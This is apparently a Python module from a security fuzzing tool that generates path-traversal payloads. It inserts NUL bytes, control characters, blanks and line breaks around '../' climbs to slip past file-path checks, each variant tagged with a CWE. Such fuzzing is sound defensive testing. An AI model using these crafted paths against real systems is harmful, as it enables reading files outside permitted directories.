"""Control characters: where C ends a string, a filter drops them, a pattern stops at a line."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import base, behind, late, leaf, straight, ways
from capfuzz.attacks.techniques.registry import Kind, technique

_CUTS = "hands the path to code that takes NUL for the end (CWE-158)"
_SESSION = ("session",)


@technique(
    "nul-before-suffix",
    kind=Kind.PATH,
    group="nul",
    cwe="CWE-158",
    needs=f"{_CUTS}, having looked at the suffix",
    refs=("CVE-2006-7243",),
)
def nul_before_suffix(root: str, target: str) -> Iterator[str]:
    """Climb to the target and put NUL before an ending that looks harmless."""
    yield f"{straight(root, target)}\0.txt"
    yield f"{late(root, target)}\0.png"
    yield f"{straight(root, target)}\0"


@technique(
    "nul-after-target",
    kind=Kind.PATH,
    group="nul",
    cwe="CWE-158",
    needs=f"{_CUTS}, having searched for the root anywhere",
)
def nul_after_target(root: str, target: str) -> Iterator[str]:
    """Name the target, then NUL, then an honest path below the root."""
    yield f"{target}\0{base(root)}/data.txt"
    yield f"{target}\0.txt"


@technique(
    "nul-after-honest",
    kind=Kind.PATH,
    group="nul",
    cwe="CWE-158",
    surfaces=_SESSION,
    needs="stops checking at NUL, and opens with something that does not stop there",
)
def nul_after_honest(root: str, target: str) -> Iterator[str]:
    """Name an honest file, then NUL, then the climb or nothing."""
    yield behind(root, target, "data.txt\0/")
    yield f"{base(root)}/data.txt\0"
    yield f"{base(root)}/data.txt\0.png"
    yield f"{base(root)}\0/data.txt"
    yield f"{base(root)}/\0"


@technique(
    "nul-inside-dots",
    kind=Kind.PATH,
    group="nul",
    cwe="CWE-158",
    surfaces=_SESSION,
    needs="removes NUL after the check",
)
def nul_inside_dots(root: str, target: str) -> Iterator[str]:
    """Put NUL between, before and after the dots of a climb, and after every character."""
    yield from ways(root, target, ".\0./", "..\0/", "\0../", ".\0.\0/\0")


@technique(
    "nul-inside-root",
    kind=Kind.PATH,
    group="nul",
    cwe="CWE-158",
    surfaces=_SESSION,
    needs="removes NUL before or after the comparison, and not on both sides",
)
def nul_inside_root(root: str, target: str) -> Iterator[str]:
    """Put NUL before the path, and into and behind the root's name."""
    yield f"\0{target}"
    name = base(root)
    if not name:
        return
    yield f"{name[:-1]}\0{name[-1]}shop/{leaf(target)}"
    yield f"{name}\0shop/{leaf(target)}"


@technique(
    "control-between-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-182",
    needs="removes control characters after the check",
)
def control_between_dots(root: str, target: str) -> Iterator[str]:
    """Put each control character that some filter or parser drops between two dots."""
    yield late(root, target, ".\t./")
    for mark in _DROPPED:
        yield straight(root, target, f".{mark}./")


@technique(
    "control-after-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-182",
    needs="trims every segment after the check",
)
def control_after_dots(root: str, target: str) -> Iterator[str]:
    """Put white space of every kind after two dots, where a trim of the segment removes it."""
    yield late(root, target, "..\t/")
    for mark in _TRIMMED:
        yield straight(root, target, f"..{mark}/")


@technique(
    "control-before-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-182",
    needs="trims every segment, or the rest after the root, after the check",
)
def control_before_dots(root: str, target: str) -> Iterator[str]:
    """Put white space before the climb."""
    for mark in ("\t", "\n", "\r", "\x0b", "\x1f", "\u3000"):
        yield straight(root, target, f"{mark}../")


@technique(
    "blank-around-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-46",
    needs="trims or removes blanks after the check",
)
def blank_around_dots(root: str, target: str) -> Iterator[str]:
    """Put blanks before, after and between the dots of a climb."""
    yield from ways(root, target, ".. /", " ../", ". ./", " .. /", "..\u00a0/")


@technique(
    "blank-after-file",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-46",
    needs="trims the whole path after the check",
)
def blank_after_file(root: str, target: str) -> Iterator[str]:
    """Put white space after an honest file's name."""
    del target
    for mark in (" ", "\t", "\n", "\r\n", "\u00a0"):
        yield f"{base(root)}/data.txt{mark}"


@technique(
    "line-break-after-dots",
    kind=Kind.PATH,
    group="controls",
    cwe="CWE-185",
    needs="ends its pattern with $, which also matches before a last line break, and trims after",
)
def line_break_after_dots(root: str, target: str) -> Iterator[str]:
    r"""Put a line break after the dots of a climb, and end on one: ``$`` lets ``..\n`` pass."""
    yield from ways(root, target, "..\n/", "..\r\n/")
    yield f"{base(root)}/..\n"


@technique(
    "second-line",
    kind=Kind.PATH,
    group="traversal-late",
    cwe="CWE-185",
    needs="matches line by line (a multi-line ^), or lets . stop at a line break",
)
def second_line(root: str, target: str) -> Iterator[str]:
    """Hide the climb behind a line break, of several kinds."""
    for mark in ("\n", "\r", "\u2028"):
        yield behind(root, target, f"data.txt{mark}/")
        yield behind(root, target, f"{mark}/")


_DROPPED = (
    "\t",  # dropped from URLs (WHATWG URL 4.4), as are line breaks
    "\n",
    "\r",
    "\x01",  # dropped by filters of unprintable characters
    "\x08",  # a backspace: terminals take the character before it away
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",  # white space to str.strip and str.split
    "\x7f",  # a control that is not in C0
    "\x85",  # next line, in C1: white space to str, two bytes in UTF-8
    "\x9f",
)
_TRIMMED = ("\t", "\r", "\x0b", "\x0c", "\x1c", "\x1f", "\x85", "\u2003", "\u2028", "\u3000")
